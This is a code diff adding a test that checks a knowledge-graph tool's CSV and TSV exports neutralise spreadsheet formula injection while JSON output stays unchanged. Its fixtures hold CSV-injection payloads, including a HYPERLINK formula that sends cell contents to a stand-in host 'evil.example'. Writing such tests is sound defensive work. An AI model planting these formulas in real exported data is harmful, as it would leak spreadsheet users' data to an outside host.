@@ -247,6 +247,40 @@ def test_csv_sheets_export_neutralises_formulas_and_import_restores_them(kg_env:
     assert "\n=" not in text and ",=" not in text and ",+" not in text and ",@" not in text
 
 
+def test_csv_and_tsv_row_output_neutralises_formulas_json_unchanged(kg_env: Path, tmp_path: Path) -> None:
+    """Every CSV/TSV table output (query, stats, gaps…), not only csv-sheets (issue 19, item 3)."""
+    import csv as csvmod
+    import json
+
+    from click.testing import CliRunner
+    from rdflib import Literal
+
+    from cyberkg.cli.main import main
+    from cyberkg.core.output import render
+    from cyberkg.importers import import_files
+
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    rows = [{"label": Literal(hostile), "n": Literal(-3), "t": "@SUM(A1)"}]
+    for fmt, sep in (("csv", ","), ("tsv", "\t")):
+        cells = list(csvmod.reader(io.StringIO(render(["label", "n", "t"], rows, fmt)), delimiter=sep))[1]
+        assert cells == ["'" + hostile, "-3", "'@SUM(A1)"], fmt
+    assert json.loads(render(["label", "n", "t"], rows, "json")) == [{"label": hostile, "n": -3, "t": "@SUM(A1)"}]
+
+    els = tmp_path / "f-elements.csv"
+    els.write_text('id,kind,label\nevil-actor,actor,"=HYPERLINK(""http://evil.example/"",""x"")"\n', encoding="utf-8")
+    import_files([els], date="2024-01-01")
+    rq = tmp_path / "labels.rq"
+    rq.write_text("#+ summary: labels\nPREFIX rdfs: <http://www.w3.org/2000/01/rdf-schema#>\n"
+                  'SELECT ?label WHERE { ?x rdfs:label ?label FILTER(STRSTARTS(?label, "=")) } ORDER BY ?label\n')
+    for fmt in ("csv", "tsv"):
+        r = CliRunner().invoke(main, ["query", str(rq), "--format", fmt])
+        assert r.exit_code == 0, r.output
+        lines = r.stdout.splitlines()
+        assert lines[0] == "label" and len(lines) == 2 and lines[1].lstrip('"').startswith("'="), lines
+    r = CliRunner().invoke(main, ["query", str(rq), "--format", "json"])
+    assert json.loads(r.stdout) == [{"label": '=HYPERLINK("http://evil.example/","x")'}]
+
+
 def test_oversized_import_is_refused_with_the_limit_named(kg_env: Path, tmp_path: Path,
                                                           monkeypatch: pytest.MonkeyPatch) -> None:
     from cyberkg.importers import import_files
